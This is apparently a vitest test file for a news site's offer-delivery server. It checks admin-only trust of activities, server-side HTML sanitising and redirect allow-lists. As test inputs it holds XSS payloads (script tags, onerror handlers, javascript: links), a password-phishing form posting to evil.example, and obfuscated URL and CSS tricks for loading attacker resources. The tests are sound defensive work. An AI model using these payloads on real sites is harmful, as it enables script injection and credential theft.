import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { encodeDeliveryQuery, type Activity, type DeliveryAction, type DeliveryResponse, type Offer } from '@mesura/protocol';
import { articleDeliveryRequest } from '../helpers/delivery-request.js';
import { BROWSER_UA, startTestServer, type TestServer } from '../helpers/test-server.js';
import { testActivity } from '../helpers/activity.js';

const START = Date.UTC(2026, 0, 15, 10);
const SCRIPT_OFFER = '<p>Hola</p><script>fetch("/api/export/events")</script>';
const ATTACK_HTML = [
  '<p class="x">Hola</p>',
  '<script>document.title="pwned"</script>',
  '<form action="https://evil.example/steal"><input type="password" name="p"><button>Entra</button></form>',
  '<img src="x" onerror="alert(1)">',
  '<a href="javascript:alert(1)">a</a><a href="data:text/html,x">b</a><a href="https://www.mesura.cat/">c</a>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><style>body{background:url(https://evil.example/pixel)}</style>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0"><link rel="stylesheet" href="x">',
  '<div id="mesuraSanitizer" style="position:fixed" onclick="x()">d</div>',
].join('');

// One server for the file (starting one costs seconds); each test writes an activity, and asks for
// the mbox, of an id of its own, so that none sees another's activity or trust.
let t: TestServer;
beforeAll(async () => {
  t = await startTestServer({ MESURA_REDIRECT_ORIGINS: 'https://botiga.mesura.cat', MESURA_OFFER_ORIGINS: 'https://cdn.mesura.cat' }, () => START);
}, 60_000);
afterAll(() => t?.dispose());

let tests = 0;
let activityId = 'prova';
beforeEach(() => {
  tests += 1;
  activityId = `prova-${tests}`;
});

function activity(offer: Omit<Offer, 'id' | 'name'>, overrides: Partial<Activity> = {}): Activity {
  return testActivity({ id: activityId, experiences: [{ id: 'unica', name: 'Única', share: 1, offer: { id: 'oferta', name: 'Oferta', ...offer } }], ...overrides });
}

const setContent = (content: string): DeliveryAction => ({ action: 'setContent', selector: 'h1', content });

/** `null`: no session and no token. */
async function put(body: unknown, role: 'editor' | 'admin' | null = 'editor', id = activityId) {
  const headers = role ? await t.authHeaders(role) : {};
  return t.server.app.inject({ method: 'PUT', url: `/api/activities/${id}`, payload: body as object, headers });
}

async function trust(trusted: boolean, role: 'editor' | 'admin' = 'admin') {
  return t.server.app.inject({ method: 'PUT', url: `/api/activities/${activityId}/trust`, payload: { trusted }, headers: await t.authHeaders(role) });
}

async function served(): Promise<DeliveryResponse['offers'][number]> {
  const query = encodeDeliveryQuery(articleDeliveryRequest(START, { mbox: activityId }));
  const response = await t.server.app.inject({ url: `/m2/mesura/mbox/json?${query}`, headers: { 'user-agent': BROWSER_UA } });
  expect(response.statusCode, response.body).toBe(200);
  return (response.json() as DeliveryResponse).offers[0]!;
}

const contentOf = (offer: { actions?: DeliveryAction[] }) => String(offer.actions?.[0]?.content);

describe('no request marks an activity trusted', () => {
  it("refuses the script-injection attack: an anonymous PUT with trusted and a script (401), and an editor's (400, with the reason)", async () => {
    const attack = { ...activity({ actions: [setContent(SCRIPT_OFFER)] }), trusted: true };
    expect((await put(attack, null, 'titular-1001')).statusCode).toBe(401);
    const editor = await put(attack);
    expect(editor.statusCode).toBe(400);
    expect(editor.json()).toEqual({
      code: 'MESURA_ERR_BAD_ACTIVITY',
      error: 'trusted is not part of a definition: only an admin trusts an activity, with PUT /api/activities/:id/trust',
    });
    expect((await put({ ...activity({}), trustedBy: 'admin@test.local' }, 'admin')).statusCode).toBe(400);
  });

  it('lets only an admin trust, recorded with who and when; an editor gets 403', async () => {
    expect((await put(activity({ actions: [setContent('<p>Hola</p>')] }))).statusCode).toBe(200);
    expect((await trust(true, 'editor')).statusCode).toBe(403);
    const trusted = await trust(true);
    expect(trusted.statusCode, trusted.body).toBe(200);
    expect(trusted.json()).toMatchObject({ trusted: true, trustedBy: 'admin@test.local', trustedAt: new Date(START).toISOString() });
    expect((await served()).responseTokens).toMatchObject({ 'activity.trusted': true });
    const bad = await t.server.app.inject({ method: 'PUT', url: `/api/activities/${activityId}/trust`, payload: { trusted: 'yes' }, headers: await t.authHeaders('admin') });
    expect(bad.json()).toEqual({ code: 'MESURA_ERR_BAD_ACTIVITY', error: 'a trust change is {"trusted": true} or {"trusted": false}' });
  });

  it("keeps an admin's script while trusted; an editor's change of the offers drops the trust and sanitises them", async () => {
    await put(activity({ actions: [setContent('<p>Hola</p>')] }));
    await trust(true);
    // The admin writes the script into the trusted activity: kept whole.
    const admin = await put(activity({ actions: [setContent(SCRIPT_OFFER)] }), 'admin');
    expect(admin.json()).toMatchObject({ trusted: true, trustedBy: 'admin@test.local' });
    expect(contentOf(await served())).toBe(SCRIPT_OFFER);
    // An editor renaming the activity leaves the approved offers, and the trust, as they were.
    expect((await put(activity({ actions: [setContent(SCRIPT_OFFER)] }, { name: 'Reanomenada' }))).json()).toMatchObject({ trusted: true });
    // An editor changing the offers: trust dropped, offers sanitised.
    const changed = await put(activity({ actions: [setContent(`${SCRIPT_OFFER}<b>nou</b>`)] }));
    expect(changed.json()).not.toHaveProperty('trusted');
    const offer = await served();
    expect(offer.responseTokens).not.toHaveProperty('activity.trusted');
    expect(contentOf(offer)).toBe('<p>Hola</p><b>nou</b>');
  });

  it('sanitises the offers when an admin withdraws the trust', async () => {
    await put(activity({ actions: [setContent('<p>Hola</p>')] }));
    await trust(true);
    await put(activity({ actions: [setContent(SCRIPT_OFFER)] }), 'admin');
    const withdrawn = await trust(false);
    expect(withdrawn.json()).not.toHaveProperty('trustedBy');
    expect(contentOf(await served())).toBe('<p>Hola</p>');
  });
});

describe("editors' offers are sanitised on the server", () => {
  it('keeps only the allow-list in HTML actions and the offer html, as stored and as served', async () => {
    const response = await put(activity({ html: ATTACK_HTML, actions: [setContent(ATTACK_HTML), { action: 'insertAfter', selector: 'h1', content: ATTACK_HTML }] }));
    expect(response.statusCode, response.body).toBe(200);
    const expected = '<p class="x">Hola</p>Entra<img src="x" /><a>a</a><a>b</a><a>c</a><div>d</div>';
    const stored = response.json() as Activity;
    expect(stored.experiences[0]!.offer!.html).toBe(expected);
    const offer = await served();
    expect(offer.html).toBe(expected);
    expect(offer.actions!.slice(0, 2).map((a) => a.content)).toEqual([expected, expected]);
  });

  it('keeps links, images and citations only to the site and MESURA_OFFER_ORIGINS, resolved as the page resolves them', async () => {
    const html = [
      '<a href="https://evil.example/premi">1</a>',
      '<img src="https://evil.example/pixel.gif" alt="2">',
      '<a href="http:/evil.example/">3</a>',
      '<img src="https:evil.example/p.gif" alt="4">',
      '<a href="&#104;ttps://evil.example/">5</a>',
      '<a href="http:\\\\evil.example/">6</a>',
      '<blockquote cite="https://evil.example/">7</blockquote>',
      '<a href="https://botiga.mesura.cat/">8</a>',
      '<img src="https://cdn.mesura.cat/foto.jpg" alt="9">',
      '<a href="/subscriu">10</a><a href="http://localhost:8080/x">11</a><a href="mailto:redaccio@mesura.cat">12</a>',
    ].join('');
    const response = await put(activity({ html, actions: [setContent(html)] }));
    expect(response.statusCode, response.body).toBe(200);
    const expected = [
      '<a>1</a>',
      '<img alt="2" />',
      '<a>3</a>',
      '<img alt="4" />',
      '<a>5</a>',
      '<a>6</a>',
      '<blockquote>7</blockquote>',
      '<a>8</a>',
      '<img src="https://cdn.mesura.cat/foto.jpg" alt="9" />',
      '<a href="/subscriu">10</a><a href="http://localhost:8080/x">11</a><a href="mailto:redaccio@mesura.cat">12</a>',
    ].join('');
    const offer = await served();
    expect(offer.html).toBe(expected);
    expect(contentOf(offer)).toBe(expected);
  });

  it.each([
    [{ href: 'http:/evil.example/' }, 'href to http://evil.example is not allowed'],
    [{ href: 'https:evil.example/' }, 'href to https://evil.example is not allowed'],
    [{ href: 'https://botiga.mesura.cat/' }, 'href to https://botiga.mesura.cat is not allowed'],
    [{ src: 'https://evil.example/pixel.gif' }, 'src to https://evil.example is not allowed'],
    [{ cite: 'http:\\\\evil.example/' }, 'cite to http://evil.example is not allowed'],
  ])('refuses a setAttribute %o to another host, naming MESURA_OFFER_ORIGINS', async (content, reason) => {
    const response = await put(activity({ actions: [{ action: 'setAttribute', selector: 'img', content }] }));
    expect(response.statusCode).toBe(400);
    expect(response.json().error).toContain(reason);
    expect(response.json().error).toContain("only the site's origins and MESURA_OFFER_ORIGINS");
  });

  it('keeps a <style> whose CSS loads nothing', async () => {
    await put(activity({ html: '<style>.titular{color:#c00}</style><style>@import "https://evil.example/x.css";</style><p>x</p>' }));
    expect((await served()).html).toBe('<style>.titular{color:#c00}</style><p>x</p>');
  });

  it('leaves text content as text', async () => {
    await put(
      activity({
        actions: [
          { action: 'setText', selector: 'h1', content: 'a < b & <script>' },
          { action: 'setContent', selector: 'h2', contentType: 'text', content: '<i>' },
        ],
      }),
    );
    expect((await served()).actions!.slice(0, 2).map((a) => a.content)).toEqual(['a < b & <script>', '<i>']);
  });

  it.each([
    [{ action: 'setAttribute', selector: 'a', content: { onclick: 'x()' } }, "attribute onclick is not in the offers' allow-list"],
    [{ action: 'setAttribute', selector: 'a', attribute: 'href', value: ' JavaScript:alert(1)' }, 'is not an http(s), mailto, tel or relative URL'],
    [{ action: 'setAttribute', selector: 'a', content: { href: '//evil.example/' } }, 'is not an http(s), mailto, tel or relative URL'],
    [{ action: 'setAttribute', selector: 'div', content: { id: 'mesuraSanitizer' } }, "attribute id is not in the offers' allow-list"],
    [{ action: 'setAttribute', selector: 'a.cta', content: { href: 'https://evil.example/login' } }, "href to https://evil.example is not allowed: only the site's origins and MESURA_OFFER_ORIGINS"],
    [{ action: 'setStyle', selector: 'div', content: { background: 'url(https://evil.example/pixel)' } }, 'may not load resources or run script'],
    [{ action: 'setStyle', selector: 'div', property: 'background', value: 'u\\72l(x)' }, 'may not load resources or run script'],
  ])('refuses an untrusted %o', async (action, reason) => {
    const response = await put(activity({ actions: [action as DeliveryAction] }));
    expect(response.statusCode).toBe(400);
    expect(response.json().error).toContain(reason);
  });

  it("keeps an inserted element's inline style of safe properties with plain values, and drops the rest", async () => {
    const html = '<p style="color: #c00; font-size: 1.2rem; position: fixed; background-color: rgb(1, 2, 3); background-image: url(https://evil.example/p.png); width: expression(alert(1))">Avís</p>';
    const response = await put(activity({ actions: [{ action: 'insertAfter', selector: 'h1', content: html } as DeliveryAction] }));
    expect(response.statusCode, response.body).toBe(200);
    expect(contentOf(await served())).toBe('<p style="color:#c00;font-size:1.2rem;background-color:rgb(1, 2, 3)">Avís</p>');
    const refused = await put(activity({ actions: [{ action: 'setAttribute', selector: 'p', content: { style: 'background:url(https://evil.example/p.png)' } } as DeliveryAction] }));
    expect(refused.statusCode).toBe(400);
    expect(refused.json().error).toContain('attribute style may not be set');
  });

  it('accepts safe attributes and styles', async () => {
    const actions = [
      { action: 'setAttribute', selector: 'a', content: { href: '/subscriu', title: 'Subscriu-te', 'data-x': '1' } },
      { action: 'setAttribute', selector: 'img.foto', content: { src: 'https://cdn.mesura.cat/foto.jpg' } },
      { action: 'setAttribute', selector: 'a.correu', content: { href: 'mailto:redaccio@mesura.cat' } },
      { action: 'setStyle', selector: 'ul', content: { display: 'grid', 'grid-template-columns': 'repeat(2, 1fr)' } },
    ] as DeliveryAction[];
    expect((await put(activity({ actions }))).statusCode).toBe(200);
  });
});

describe('redirects go only to allowed origins', () => {
  it.each(['/nou', 'http://localhost:8080/x', 'https://botiga.mesura.cat/oferta'])('accepts %s', async (url) => {
    const response = await put(activity({ actions: [{ action: 'redirect', content: url }] }));
    expect(response.statusCode, response.body).toBe(200);
  });

  it.each(['https://evil.example/', '//evil.example/x', '/\\evil.example', 'javascript:alert(1)', 'data:text/html,x', 'http:/evil.example/', 'https:evil.example/'])(
    'refuses %s, also for a trusted activity',
    async (url) => {
      const response = await put(activity({ actions: [{ action: 'redirect', content: '/nou', url }] }));
      expect(response.statusCode).toBe(400);
      expect(response.json().error).toMatch(/redirect to \S+ is not allowed: only the site's origins and MESURA_REDIRECT_ORIGINS/);
    },
  );

  it('refuses a foreign redirect an admin writes into a trusted activity', async () => {
    await put(activity({ actions: [{ action: 'redirect', content: '/nou' }] }));
    await trust(true);
    expect((await put(activity({ actions: [{ action: 'redirect', content: 'https://evil.example/' }] }), 'admin')).statusCode).toBe(400);
  });
});
